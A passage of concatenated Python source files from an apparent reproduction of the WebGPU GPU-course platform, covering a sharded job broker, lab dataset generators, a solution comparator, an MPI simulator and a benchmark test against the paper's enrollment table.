        meter (rate-limited by the SLO policy) as a side effect."""
        if self.admission is None:
            return AdmissionDecision("admit", "run")
        if self.slo.due(now):
            sample = self.slo.sample(
                now, stalled_wait_s=self.queue.oldest_wait(now))
            self.admission.observe_burn(sample.burn, now)
        return self.admission.decide(job, now)

    # -- MessageBroker-compatible delivery surface -------------------------

    def publish(self, job: Job, now: float, zone: str | None = None,
                delay_s: float = 0.0) -> str:
        """Accept one job; returns the shard that owns it. ``delay_s``
        seats the job with a not-before (the admission deferral)."""
        shard = self.shard_of(job)
        self._route[job.job_id] = shard.name
        not_before = now + delay_s if delay_s > 0 else 0.0
        shard.publish(job, now, not_before=not_before)
        self._count_io("publish", 1)
        self._gauge_shards()
        return shard.name

    def publish_batch(self, jobs: list[Job], now: float) -> dict[str, int]:
        """Accept many jobs in one call: one RPC per *shard touched*,
        not one per job."""
        per_shard: dict[str, list[Job]] = {}
        for job in jobs:
            name = self.ring.shard_for(self.key_for(job))
            per_shard.setdefault(name, []).append(job)
        for name, batch in per_shard.items():
            shard = self.shards[name]
            for job in batch:
                self._route[job.job_id] = name
                shard.publish(job, now)
            self._count_io("publish", len(batch))
        self._gauge_shards()
        return {name: len(batch) for name, batch in per_shard.items()}

    def poll(self, capabilities: frozenset[str], num_gpus: int, now: float,
             zone: str | None = None,
             consumer: str = "") -> tuple[Job, float] | None:
        """Lease the oldest satisfiable job, scanning shards from a
        rotating start so no shard starves behind shard-0."""
        names = self.ring.shards
        self._poll_rr += 1
        start = self._poll_rr % len(names)
        self._count_io("poll", 1)
        for i in range(len(names)):
            shard = self.shards[names[(start + i) % len(names)]]
            polled = shard.poll(capabilities, num_gpus, now,
                                consumer=consumer)
            if polled is not None:
                return polled
        return None

    def poll_batch(self, capabilities: frozenset[str], num_gpus: int,
                   now: float, consumer: str = "",
                   max_jobs: int = 8) -> list[tuple[Job, float]]:
        """Lease up to ``max_jobs`` jobs across shards in one RPC."""
        names = self.ring.shards
        self._poll_rr += 1
        start = self._poll_rr % len(names)
        out: list[tuple[Job, float]] = []
        for i in range(len(names)):
            if len(out) >= max_jobs:
                break
            shard = self.shards[names[(start + i) % len(names)]]
            out.extend(shard.poll_batch(
                capabilities, num_gpus, now, consumer=consumer,
                max_jobs=max_jobs - len(out)))
        self._count_io("poll", max(1, len(out)))
        return out

    def _owner(self, job_id: int) -> "FabricShard | JobQueue | None":
        name = self._route.get(job_id)
        if name is None:
            return None
        shard = self.shards.get(name)
        if shard is not None:
            return shard
        return self._draining.get(name)

    def ack(self, job_id: int, now: float | None = None) -> bool:
        owner = self._owner(job_id)
        ok = owner is not None and owner.ack(job_id, now=now)
        if ok:
            self._route.pop(job_id, None)
        self._count_io("ack", 1)
        self._drop_drained()
        return ok

    def ack_batch(self, job_ids: list[int],
                  now: float | None = None) -> int:
        acked = 0
        for job_id in job_ids:
            owner = self._owner(job_id)
            if owner is not None and owner.ack(job_id, now=now):
                self._route.pop(job_id, None)
                acked += 1
        self._count_io("ack", max(1, len(job_ids)))
        self._drop_drained()
        return acked

    def nack(self, job_id: int, now: float,
             reason: str = "consumer nack") -> bool:
        owner = self._owner(job_id)
        self._count_io("nack", 1)
        return owner is not None and owner.nack(job_id, now,
                                                reason=reason)

    def nack_batch(self, failures: list[tuple[int, str]],
                   now: float) -> int:
        nacked = 0
        for job_id, reason in failures:
            owner = self._owner(job_id)
            if owner is not None and owner.nack(job_id, now,
                                                reason=reason):
                nacked += 1
        self._count_io("nack", max(1, len(failures)))
        return nacked

    def renew(self, job_ids: list[int], now: float) -> int:
        """Batch lease renewal: one RPC per shard holding any of the
        listed leases."""
        per_owner: dict[str, list[int]] = {}
        for job_id in job_ids:
            name = self._route.get(job_id)
            if name is not None:
                per_owner.setdefault(name, []).append(job_id)
        renewed = 0
        for name, ids in per_owner.items():
            owner = self.shards.get(name) or self._draining.get(name)
            if owner is not None:
                renewed += owner.renew(ids, now)
        self._count_io("renew", max(1, len(job_ids)),
                       rpcs=max(1, len(per_owner)))
        return renewed

    def expire_leases(self, now: float) -> list[Job]:
        expired: list[Job] = []
        for shard in self.shards.values():
            expired.extend(shard.expire_leases(now))
        for queue in self._draining.values():
            expired.extend(queue.expire_leases(now))
        self._reroute_drained(now)
        return expired

    def cancel(self, job_id: int) -> bool:
        owner = self._owner(job_id)
        ok = owner is not None and owner.cancel(job_id)
        if ok:
            self._route.pop(job_id, None)
        return ok

    def dead_letters(self) -> list[DeadLetter]:
        out: list[DeadLetter] = []
        for shard in self.shards.values():
            out.extend(shard.queue.dead_letters())
        for queue in self._draining.values():
            out.extend(queue.dead_letters())
        return out

    def dead_letter(self, job_id: int) -> DeadLetter | None:
        owner = self._owner(job_id)
        if isinstance(owner, FabricShard):
            return owner.queue.dead_letter(job_id)
        if owner is not None:
            return owner.dead_letter(job_id)
        for dead in self.dead_letters():
            if dead.job.job_id == job_id:
                return dead
        return None

    def next_wakeup(self, now: float) -> float | None:
        times = [t for shard in self.shards.values()
                 if (t := shard.queue.next_wakeup(now)) is not None]
        times += [t for queue in self._draining.values()
                  if (t := queue.next_wakeup(now)) is not None]
        return min(times, default=None)

    def depth(self) -> int:
        return (sum(shard.depth for shard in self.shards.values())
                + sum(len(q) for q in self._draining.values()))

    @property
    def in_flight_count(self) -> int:
        return (sum(s.in_flight_count for s in self.shards.values())
                + sum(q.in_flight_count for q in self._draining.values()))

    @property
    def queue(self) -> _FabricQueueView:
        return _FabricQueueView(self)

    @property
    def zones(self) -> tuple[str, ...]:
        """Shard names stand in for zones on the v2 dashboard."""
        return tuple(self.ring.shards)

    def replica_stats(self) -> dict[str, dict[str, object]]:
        return {name: {"alive": True, **shard.snapshot()}
                for name, shard in self.shards.items()}

    # -- faults and rebalancing --------------------------------------------

    def crash_shard(self, name: str, now: float) -> FailoverReport:
        """Lose one shard's primary replica; the standby promotes and
        re-seats everything un-acked (waiting, leased, dead-lettered)."""
        report = self.shards[name].crash(now)
        self.failovers.append(report)
        self._gauge_shards()
        return report

    def add_shard(self, name: str, now: float) -> int:
        """Grow the ring; waiting jobs whose key now maps to the new
        shard migrate with their enqueue times intact. In-flight
        leases stay put (their routing is pinned until terminal).
        Returns the number of jobs migrated."""
        shard = FabricShard(name, policy=self.policy,
                            telemetry=self.telemetry,
                            replicas=self.replicas_per_shard)
        self.shards[name] = shard
        self.ring.add(name)
        moved = 0
        for donor in list(self.shards.values()):
            if donor.name == name:
                continue
            for job in list(donor.queue.waiting()):
                target = self.ring.shard_for(self.key_for(job))
                if target == donor.name:
                    continue
                taken = donor.take(job.job_id)
                if taken is None:
                    continue
                self.shards[target].restore(taken[0], taken[1])
                self._route[job.job_id] = target
                moved += 1
        self._gauge_shards()
        return moved

    def remove_shard(self, name: str, now: float) -> int:
        """Shrink the ring gracefully: waiting jobs migrate to their
        new owners; in-flight leases drain in place (the retired queue
        stays addressable for acks until its last lease resolves).
        Returns the number of jobs migrated."""
        if len(self.shards) <= 1:
            raise ValueError("cannot remove the last shard")
        shard = self.shards.pop(name)
        self.ring.remove(name)
        moved = 0
        for job in list(shard.queue.waiting()):
            taken = shard.take(job.job_id)
            if taken is None:
                continue
            target = self.ring.shard_for(self.key_for(job))
            self.shards[target].restore(taken[0], taken[1])
            self._route[job.job_id] = target
            moved += 1
        if shard.queue.in_flight_count or shard.queue.dead_letters():
            self._draining[name] = shard.queue
        self._gauge_shards()
        return moved

    def _reroute_drained(self, now: float) -> None:
        """Jobs whose lease expired on a *retired* shard re-enter via
        their new ring owner instead of the draining queue."""
        for name, queue in list(self._draining.items()):
            for job in list(queue.waiting()):
                taken = queue.take(job.job_id)
                if taken is None:
                    continue
                target = self.ring.shard_for(self.key_for(job))
                delay = self.policy.backoff_for(job.delivery.attempts)
                self.shards[target].restore(taken[0], taken[1],
                                            not_before=now + delay)
                self._route[job.job_id] = target
        self._drop_drained()

    def _drop_drained(self) -> None:
        for name, queue in list(self._draining.items()):
            if (not queue.in_flight_count and not len(queue)
                    and not queue.dead_letters()):
                del self._draining[name]

    # -- introspection -----------------------------------------------------

    def io_savings(self) -> dict[str, dict[str, float]]:
        """Per-op logical operations vs round-trips actually made —
        the receipts for the batching claim."""
        metrics = self.telemetry.metrics
        ops = metrics.counter("webgpu_fabric_ops_total")
        rpcs = metrics.counter("webgpu_fabric_rpcs_total")
        out: dict[str, dict[str, float]] = {}
        for op in ("publish", "poll", "ack", "nack", "renew"):
            o, r = ops.value(op=op), rpcs.value(op=op)
            out[op] = {"ops": o, "rpcs": r, "saved": max(0.0, o - r)}
        return out

    def shard_summary(self) -> dict[str, dict[str, object]]:
        return {name: shard.snapshot()
                for name, shard in sorted(self.shards.items())}
