"""Offline development harness (paper Section IV-C).

Students who have their own toolchain can build against libwb and test
with generator-produced data before submitting through WebGPU. This
module is that path for the simulated stack: compile and run a lab
program locally, with no platform, sandbox, or grading involved.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from repro.gpusim import Device, DeviceSpec, GpuRuntime, KEPLER_K20
from repro.minicuda import HostEnv, compile_source
from repro.wb.comparison import CompareResult, compare_solution
from repro.wb.datasets import GeneratedData


@dataclass
class OfflineResult:
    """Everything a local run produces."""

    compare: CompareResult
    stdout: list[str] = field(default_factory=list)
    log: list[str] = field(default_factory=list)
    kernel_seconds: float = 0.0
    exit_code: int = 0

    @property
    def passed(self) -> bool:
        return self.exit_code == 0 and self.compare.correct


def run_offline(source: str, data: GeneratedData,
                spec: DeviceSpec = KEPLER_K20,
                max_steps: int = 50_000_000,
                engine: str | None = None) -> OfflineResult:
    """Compile and run ``source`` against one generated dataset.

    Raises :class:`repro.minicuda.CompileError` on compile errors and
    lets runtime faults propagate — offline development shows the raw
    toolchain behaviour, unlike the worker which wraps everything.
    ``engine`` selects the kernel execution engine
    (closure/codegen/simd/ast).
    """
    program = compile_source(source)
    runtime = GpuRuntime(Device(spec))
    env = HostEnv(datasets=dict(data.inputs))
    result = program.run_main(runtime=runtime, host_env=env,
                              max_steps=max_steps, engine=engine)
    compare = compare_solution(
        data.expected, env.solution.data if env.solution else None)
    kernel_seconds = sum(s.elapsed_seconds for _, s in env.kernel_launches)
    return OfflineResult(compare=compare, stdout=env.stdout, log=env.log,
                         kernel_seconds=kernel_seconds,
                         exit_code=result.exit_code)
