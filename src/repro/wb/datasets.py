"""Seeded dataset generators for every lab data shape.

Each generator returns a :class:`GeneratedData`: named input arrays
(keyed ``input0``, ``input1``, ... — the names ``wbImport`` resolves),
the expected output computed by a NumPy reference implementation, and
any extra parameters a kernel-only harness needs.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable

import numpy as np


@dataclass
class GeneratedData:
    """One dataset instance for one lab."""

    inputs: dict[str, np.ndarray]
    expected: np.ndarray
    params: dict[str, Any] = field(default_factory=dict)


@dataclass(frozen=True)
class DatasetSpec:
    """How a lab's datasets are produced: generator name + size knob."""

    generator: str
    size: int


def _rng(seed: int) -> np.random.Generator:
    return np.random.default_rng(seed)


# -- dense linear algebra -----------------------------------------------------

def gen_vector_add(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    a = rng.random(size, dtype=np.float32) * 10
    b = rng.random(size, dtype=np.float32) * 10
    return GeneratedData(inputs={"input0": a, "input1": b}, expected=a + b)


def gen_matmul(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    m, k, n = size, size + rng.integers(1, 5), size + rng.integers(1, 3)
    a = rng.random((m, k), dtype=np.float32)
    b = rng.random((k, n), dtype=np.float32)
    return GeneratedData(inputs={"input0": a, "input1": b},
                         expected=(a @ b).astype(np.float32))


def gen_sgemm(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    a = rng.random((size, size), dtype=np.float32)
    b = rng.random((size, size), dtype=np.float32)
    return GeneratedData(inputs={"input0": a, "input1": b},
                         expected=(a @ b).astype(np.float32))


# -- stencils & convolution -------------------------------------------------------

_CONV_KERNEL = np.array(
    [[1, 2, 1], [2, 4, 2], [1, 2, 1]], dtype=np.float32) / 16.0


def gen_convolution2d(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    image = rng.random((size, size), dtype=np.float32)
    mask = _CONV_KERNEL
    padded = np.pad(image, 1, mode="constant")
    out = np.zeros_like(image)
    for dy in range(3):
        for dx in range(3):
            out += mask[dy, dx] * padded[dy:dy + size, dx:dx + size]
    return GeneratedData(
        inputs={"input0": image, "input1": mask},
        expected=out.astype(np.float32))


def gen_stencil2d(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    grid = rng.random((size, size), dtype=np.float32)
    out = grid.copy()
    # 5-point stencil on the interior
    out[1:-1, 1:-1] = (grid[1:-1, 1:-1] + grid[:-2, 1:-1] + grid[2:, 1:-1]
                       + grid[1:-1, :-2] + grid[1:-1, 2:]) * 0.2
    return GeneratedData(inputs={"input0": grid},
                         expected=out.astype(np.float32))


def gen_mpi_stencil(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    line = rng.random(size, dtype=np.float32)
    out = line.copy()
    out[1:-1] = (line[:-2] + line[1:-1] + line[2:]) / 3.0
    return GeneratedData(inputs={"input0": line},
                         expected=out.astype(np.float32),
                         params={"ranks": 4})


# -- reductions, scans, histograms --------------------------------------------------

def gen_reduction(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    x = rng.random(size, dtype=np.float32)
    return GeneratedData(inputs={"input0": x},
                         expected=np.array([x.astype(np.float64).sum()],
                                           dtype=np.float32))


def gen_scan(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    x = rng.random(size, dtype=np.float32)
    return GeneratedData(
        inputs={"input0": x},
        expected=np.cumsum(x.astype(np.float64)).astype(np.float32))


def gen_image_equalization(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    # grayscale image with a biased histogram (so equalisation matters)
    image = (rng.beta(2.0, 5.0, size=(size, size)) * 255).astype(np.int32)
    levels = 256
    hist = np.bincount(image.ravel(), minlength=levels)
    cdf = np.cumsum(hist) / image.size
    cdf_min = cdf[np.nonzero(hist)[0][0]]
    lut = np.clip(255.0 * (cdf - cdf_min) / (1.0 - cdf_min), 0, 255)
    expected = lut[image].astype(np.float32)
    return GeneratedData(inputs={"input0": image.astype(np.float32)},
                         expected=expected)


# -- scatter/gather and binning ---------------------------------------------------------

def gen_scatter_gather(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    x = rng.random(size, dtype=np.float32)
    out = np.zeros(size, dtype=np.float64)
    out += x
    out[1:] += x[:-1]
    out[:-1] += x[1:]
    return GeneratedData(inputs={"input0": x},
                         expected=out.astype(np.float32))


def gen_binning(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    num_bins = max(4, size // 16)
    points = rng.random(size, dtype=np.float32)
    bins = np.minimum((points * num_bins).astype(np.int64), num_bins - 1)
    counts = np.bincount(bins, minlength=num_bins).astype(np.float64)
    sums = np.bincount(bins, weights=points.astype(np.float64),
                       minlength=num_bins)
    with np.errstate(invalid="ignore", divide="ignore"):
        averages = np.where(counts > 0, sums / counts, 0.0)
    return GeneratedData(
        inputs={"input0": points,
                "input1": np.array([num_bins], dtype=np.float32)},
        expected=averages.astype(np.float32))


# -- sparse & graphs -------------------------------------------------------------------

def gen_spmv(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    density = 0.15
    dense = rng.random((size, size)) * (rng.random((size, size)) < density)
    dense = dense.astype(np.float32)
    x = rng.random(size, dtype=np.float32)
    # CSR arrays
    row_ptr = [0]
    col_idx: list[int] = []
    values: list[float] = []
    for i in range(size):
        cols = np.nonzero(dense[i])[0]
        col_idx.extend(int(c) for c in cols)
        values.extend(float(v) for v in dense[i, cols])
        row_ptr.append(len(col_idx))
    expected = (dense.astype(np.float64) @ x.astype(np.float64))
    return GeneratedData(
        inputs={
            "input0": np.array(row_ptr, dtype=np.int32),
            "input1": np.array(col_idx or [0], dtype=np.int32),
            "input2": np.array(values or [0.0], dtype=np.float32),
            "input3": x,
        },
        expected=expected.astype(np.float32))


def gen_bfs(seed: int, size: int) -> GeneratedData:
    rng = _rng(seed)
    n = size
    # random connected-ish graph: a ring plus random chords (undirected)
    edges: set[tuple[int, int]] = set()
    for i in range(n):
        edges.add((i, (i + 1) % n))
        edges.add(((i + 1) % n, i))
    for _ in range(n * 2):
        a, b = int(rng.integers(n)), int(rng.integers(n))
        if a != b:
            edges.add((a, b))
            edges.add((b, a))
    adj: dict[int, list[int]] = {i: [] for i in range(n)}
    for a, b in sorted(edges):
        adj[a].append(b)
    row_ptr = [0]
    col_idx: list[int] = []
    for i in range(n):
        col_idx.extend(adj[i])
        row_ptr.append(len(col_idx))
    # reference BFS from node 0
    levels = np.full(n, -1, dtype=np.int64)
    levels[0] = 0
    frontier = [0]
    depth = 0
    while frontier:
        depth += 1
        nxt = []
        for u in frontier:
            for v in adj[u]:
                if levels[v] < 0:
                    levels[v] = depth
                    nxt.append(v)
        frontier = nxt
    return GeneratedData(
        inputs={
            "input0": np.array(row_ptr, dtype=np.int32),
            "input1": np.array(col_idx, dtype=np.int32),
        },
        expected=levels.astype(np.float32))


# -- trivial -----------------------------------------------------------------------------

def gen_device_query(seed: int, size: int) -> GeneratedData:
    return GeneratedData(inputs={}, expected=np.zeros(1, dtype=np.float32))


#: Registry used by the lab catalog: name -> generator callable.
generators: dict[str, Callable[[int, int], GeneratedData]] = {
    "vector_add": gen_vector_add,
    "matmul": gen_matmul,
    "sgemm": gen_sgemm,
    "convolution2d": gen_convolution2d,
    "stencil2d": gen_stencil2d,
    "mpi_stencil": gen_mpi_stencil,
    "reduction": gen_reduction,
    "scan": gen_scan,
    "image_equalization": gen_image_equalization,
    "scatter_gather": gen_scatter_gather,
    "binning": gen_binning,
    "spmv": gen_spmv,
    "bfs": gen_bfs,
    "device_query": gen_device_query,
}
