"""wbSolution-style comparison with mismatch reporting.

"When the code is run against a test dataset (an attempt), the student
is presented with any mismatches between the program result and the
test dataset." (paper Section IV-B)
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

#: Default relative/absolute tolerances (libwb uses ~1e-3 for floats).
DEFAULT_RTOL = 1e-3
DEFAULT_ATOL = 1e-3
MAX_REPORTED_MISMATCHES = 10


@dataclass(frozen=True)
class Mismatch:
    """One differing element, as shown in the Attempts view."""

    index: tuple[int, ...]
    expected: float
    actual: float

    def __str__(self) -> str:
        idx = ", ".join(str(i) for i in self.index)
        return (f"The solution did not match the expected results at "
                f"[{idx}]. Expecting {self.expected:.6g} but got "
                f"{self.actual:.6g}.")


@dataclass
class CompareResult:
    """Outcome of comparing a solution against the expected dataset."""

    correct: bool
    total: int
    mismatched: int
    mismatches: list[Mismatch] = field(default_factory=list)
    message: str = ""

    def report(self) -> str:
        """Student-facing text."""
        if self.correct:
            return "Solution is correct."
        lines = [self.message] if self.message else []
        lines += [str(m) for m in self.mismatches[:MAX_REPORTED_MISMATCHES]]
        if self.mismatched > MAX_REPORTED_MISMATCHES:
            lines.append(f"... and {self.mismatched - MAX_REPORTED_MISMATCHES}"
                         f" more mismatch(es) ({self.mismatched}/{self.total}"
                         " elements differ).")
        return "\n".join(lines)


def compare_solution(expected: np.ndarray, actual: np.ndarray | None,
                     rtol: float = DEFAULT_RTOL,
                     atol: float = DEFAULT_ATOL) -> CompareResult:
    """Compare a recorded solution to the instructor's expected output."""
    if actual is None:
        return CompareResult(
            correct=False, total=int(np.asarray(expected).size), mismatched=0,
            message="No solution was recorded — did the program call "
                    "wbSolution()?")
    expected = np.asarray(expected)
    actual = np.asarray(actual)
    if expected.size != actual.size:
        return CompareResult(
            correct=False, total=int(expected.size), mismatched=int(expected.size),
            message=f"The solution has {actual.size} element(s) but "
                    f"{expected.size} were expected.")
    exp = expected.ravel().astype(np.float64)
    act = actual.ravel().astype(np.float64)
    with np.errstate(invalid="ignore"):
        close = np.isclose(act, exp, rtol=rtol, atol=atol, equal_nan=True)
    bad = np.flatnonzero(~close)
    if bad.size == 0:
        return CompareResult(correct=True, total=int(exp.size), mismatched=0)
    mismatches = []
    for flat in bad[:MAX_REPORTED_MISMATCHES]:
        index = np.unravel_index(int(flat), expected.shape)
        mismatches.append(Mismatch(index=tuple(int(i) for i in index),
                                   expected=float(exp[flat]),
                                   actual=float(act[flat])))
    return CompareResult(correct=False, total=int(exp.size),
                         mismatched=int(bad.size), mismatches=mismatches)
