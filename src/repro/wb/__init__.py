"""libwb equivalent: dataset generation, solution checking, offline runs.

The paper (Section IV-C) notes that "the lab solution skeletons, test
generators, and WebGPU library are publicly available for students to
develop their code offline". This package is that support library for
the simulated platform:

* :mod:`repro.wb.datasets` — seeded generators for every lab data shape
  (vectors, matrices, images, CSR sparse matrices, graphs, point sets);
* :mod:`repro.wb.comparison` — the ``wbSolution`` check: tolerant
  comparison with per-element mismatch reporting, exactly what the
  Attempts view shows students;
* :mod:`repro.wb.offline` — run a lab program locally against generated
  data, outside the platform (the "optional offline development" path).
"""

from repro.wb.comparison import CompareResult, Mismatch, compare_solution
from repro.wb.datasets import DatasetSpec, GeneratedData, generators
from repro.wb.offline import OfflineResult, run_offline

__all__ = [
    "CompareResult",
    "DatasetSpec",
    "GeneratedData",
    "Mismatch",
    "OfflineResult",
    "compare_solution",
    "generators",
    "run_offline",
]
