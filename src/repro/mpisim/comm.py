"""Threads-as-ranks message passing: send/recv, barrier, allreduce."""

from __future__ import annotations

import queue
import threading
from typing import Any, Callable, Sequence

import numpy as np


class MpiError(Exception):
    """Protocol misuse (bad rank, mismatched collective, rank crash)."""


class MpiTimeout(MpiError):
    """A blocking operation waited too long (deadlock guard)."""


class Communicator:
    """Shared state for one MPI "world" of ``size`` ranks."""

    def __init__(self, size: int, timeout: float = 30.0):
        if size < 1:
            raise MpiError("communicator size must be >= 1")
        self.size = size
        self.timeout = timeout
        # mailbox[dest] holds (source, tag, payload) triples
        self._mailboxes: list[queue.Queue] = [queue.Queue() for _ in range(size)]
        self._barrier = threading.Barrier(size)
        self._reduce_lock = threading.Lock()
        self._reduce_slots: list[Any] = [None] * size
        self._reduce_result: Any = None
        self.messages_sent = 0
        self.bytes_sent = 0

    def endpoint(self, rank: int) -> "RankEndpoint":
        if not (0 <= rank < self.size):
            raise MpiError(f"rank {rank} out of range [0, {self.size})")
        return RankEndpoint(self, rank)


class RankEndpoint:
    """One rank's view of the communicator (what MPI_* builtins use)."""

    def __init__(self, comm: Communicator, rank: int):
        self.comm = comm
        self.rank = rank
        # messages that arrived but did not match a pending recv
        self._stash: list[tuple[int, int, Any]] = []

    @property
    def size(self) -> int:
        return self.comm.size

    def send(self, payload: Any, dest: int, tag: int = 0) -> None:
        if not (0 <= dest < self.comm.size):
            raise MpiError(f"MPI_Send to invalid rank {dest}")
        if isinstance(payload, np.ndarray):
            self.comm.bytes_sent += int(payload.nbytes)
        self.comm.messages_sent += 1
        self.comm._mailboxes[dest].put((self.rank, tag, payload))

    def recv(self, source: int, tag: int = 0) -> Any:
        """Blocking receive matching (source, tag); -1 matches any."""
        for i, (src, t, payload) in enumerate(self._stash):
            if (source in (-1, src)) and (tag in (-1, t)):
                del self._stash[i]
                return payload
        box = self.comm._mailboxes[self.rank]
        deadline = self.comm.timeout
        while True:
            try:
                src, t, payload = box.get(timeout=deadline)
            except queue.Empty:
                raise MpiTimeout(
                    f"rank {self.rank}: MPI_Recv(source={source}, tag={tag}) "
                    f"timed out after {self.comm.timeout}s (deadlock?)"
                ) from None
            if (source in (-1, src)) and (tag in (-1, t)):
                return payload
            self._stash.append((src, t, payload))

    def sendrecv(self, payload: Any, dest: int, source: int,
                 tag: int = 0) -> Any:
        """Exchange with neighbours without deadlocking."""
        self.send(payload, dest, tag)
        return self.recv(source, tag)

    def barrier(self) -> None:
        try:
            self.comm._barrier.wait(timeout=self.comm.timeout)
        except threading.BrokenBarrierError:
            raise MpiTimeout(
                f"rank {self.rank}: MPI_Barrier timed out (a rank died "
                "or deadlocked)") from None

    def allreduce(self, payload: Any, op: str = "sum") -> Any:
        """All ranks contribute; all receive the combined result."""
        comm = self.comm
        comm._reduce_slots[self.rank] = payload
        self.barrier()
        if self.rank == 0:
            with comm._reduce_lock:
                comm._reduce_result = _combine(comm._reduce_slots, op)
        self.barrier()
        result = comm._reduce_result
        self.barrier()  # keep slots stable until everyone has read
        if self.rank == 0:
            comm._reduce_slots = [None] * comm.size
        return result

    def bcast(self, payload: Any, root: int = 0) -> Any:
        """Broadcast from ``root`` to every rank."""
        if self.rank == root:
            for dest in range(self.comm.size):
                if dest != root:
                    self.send(payload, dest, tag=-7)
            return payload
        return self.recv(source=root, tag=-7)

    def gather(self, payload: Any, root: int = 0) -> list[Any] | None:
        """Gather every rank's payload at ``root`` (rank order)."""
        if self.rank == root:
            items: list[Any] = [None] * self.comm.size
            items[root] = payload
            for _ in range(self.comm.size - 1):
                # tag -8 reserved for gather traffic
                src_payload = self.recv(source=-1, tag=-8)
                src, value = src_payload
                items[src] = value
            return items
        self.send((self.rank, payload), dest=root, tag=-8)
        return None


def _combine(values: Sequence[Any], op: str) -> Any:
    arrays = [np.asarray(v) for v in values]
    stacked = np.stack(arrays)
    if op == "sum":
        combined = stacked.sum(axis=0)
    elif op == "max":
        combined = stacked.max(axis=0)
    elif op == "min":
        combined = stacked.min(axis=0)
    elif op == "prod":
        combined = stacked.prod(axis=0)
    else:
        raise MpiError(f"unknown reduction op {op!r}")
    if arrays[0].shape == ():
        return combined.item()
    return combined


def run_mpi(size: int, fn: Callable[[RankEndpoint], Any],
            timeout: float = 30.0) -> list[Any]:
    """Run ``fn(endpoint)`` on ``size`` ranks (threads); returns results.

    Any rank raising aborts the job: the first exception is re-raised
    in the caller once all threads have stopped.
    """
    comm = Communicator(size, timeout=timeout)
    results: list[Any] = [None] * size
    errors: list[BaseException | None] = [None] * size

    def runner(rank: int) -> None:
        try:
            results[rank] = fn(comm.endpoint(rank))
        except BaseException as exc:  # noqa: BLE001 - relayed to caller
            errors[rank] = exc
            comm._barrier.abort()

    threads = [threading.Thread(target=runner, args=(r,), daemon=True)
               for r in range(size)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=timeout + 5.0)
    for t in threads:
        if t.is_alive():
            raise MpiTimeout("an MPI rank failed to terminate")
    for exc in errors:
        if exc is not None:
            raise exc
    return results
