"""In-process MPI simulation for the Multi-GPU Stencil lab.

The paper's Table II includes a "Multi-GPU Stencil with MPI" lab and
WebGPU 2.0 dispatches MPI-tagged jobs to MPI-capable workers. This
package runs each MPI rank in its own Python thread; point-to-point
messages travel over per-destination queues and collectives are built
from a reusable barrier.
"""

from repro.mpisim.comm import (
    Communicator,
    MpiError,
    MpiTimeout,
    RankEndpoint,
    run_mpi,
)

__all__ = [
    "Communicator",
    "MpiError",
    "MpiTimeout",
    "RankEndpoint",
    "run_mpi",
]
