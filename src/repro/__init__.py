"""repro: a reproduction of "WebGPU: A Scalable Online Development
Platform for GPU Programming Courses" (Dakkak, Pearson, Hwu - IPDPS-W
2016).

The package rebuilds the entire system the paper describes, with
simulated substrates for what the original ran on real infrastructure:

* :mod:`repro.core` - the platform itself: courses, the six student
  actions, auto-grading, gradebook, peer review, instructor tools, and
  the two architecture facades :class:`repro.core.WebGPU` (Figure 2)
  and :class:`repro.core.WebGPU2` (Figure 6).
* :mod:`repro.gpusim` + :mod:`repro.minicuda` - a SIMT GPU simulator
  and a from-scratch CUDA-C subset compiler, replacing physical GPUs
  and nvcc.
* :mod:`repro.sandbox` - blacklist / seccomp-whitelist / setuid /
  time-limit security (Section III-D).
* :mod:`repro.cluster` / :mod:`repro.broker` - the v1 push and v2
  pull (broker + containers) worker architectures.
* :mod:`repro.db`, :mod:`repro.storage` - database (with replication
  and a connection pool) and S3-like object storage substrates.
* :mod:`repro.labs`, :mod:`repro.wb` - the fifteen Table-II labs and
  the libwb-equivalent support library with dataset generators.
* :mod:`repro.web` - the browser layer: the five lab views, roster,
  sessions, markdown lab descriptions.
* :mod:`repro.simulate` - the student-population workload model behind
  Table I and Figure 1.
* :mod:`repro.mpisim` - in-process MPI for the multi-GPU lab.
"""

from repro.core import WebGPU, WebGPU2
from repro.core.course import CourseOffering
from repro.labs import ALL_LABS, get_lab, labs_for_course

__version__ = "1.0.0"

__all__ = [
    "ALL_LABS",
    "CourseOffering",
    "WebGPU",
    "WebGPU2",
    "__version__",
    "get_lab",
    "labs_for_course",
]
