"""Table I: registered users, completions, completion rate, certificates
for the three Coursera offerings of Heterogeneous Parallel Programming.

Published row values:
    2013: 36896 registered, 2729 completions (7.40%), no certificates
    2014: 33818 registered, 1061 completions (3.14%), 286 certificates
    2015: 35940 registered, 1141 completions (3.15%), 442 certificates
"""

from conftest import print_table

from repro.simulate.funnel import funnel_table
from repro.simulate.scenarios import COURSERA_OFFERINGS

PUBLISHED = {
    "HPP 2013": {"completions": 2729, "rate_pct": 7.40, "certificates": None},
    "HPP 2014": {"completions": 1061, "rate_pct": 3.14, "certificates": 286},
    "HPP 2015": {"completions": 1141, "rate_pct": 3.15, "certificates": 442},
}


def test_table1_completion_funnel(benchmark):
    results = benchmark.pedantic(
        lambda: funnel_table(COURSERA_OFFERINGS), rounds=3, iterations=1)

    rows = []
    for result in results:
        published = PUBLISHED[result.name]
        rows.append({
            "offering": result.name,
            "registered": result.registered,
            "completions": f"{result.completions} "
                           f"(paper {published['completions']})",
            "rate_pct": f"{100 * result.completion_rate:.2f} "
                        f"(paper {published['rate_pct']:.2f})",
            "certificates": f"{result.certificates} "
                            f"(paper {published['certificates'] or '-'})",
        })
    print_table("Table I — enrollment funnel", rows)

    by_name = {r.name: r for r in results}
    # 2013 is the outlier year with ~2.4x the later completion rates
    assert by_name["HPP 2013"].completion_rate > 0.06
    assert 0.025 < by_name["HPP 2014"].completion_rate < 0.040
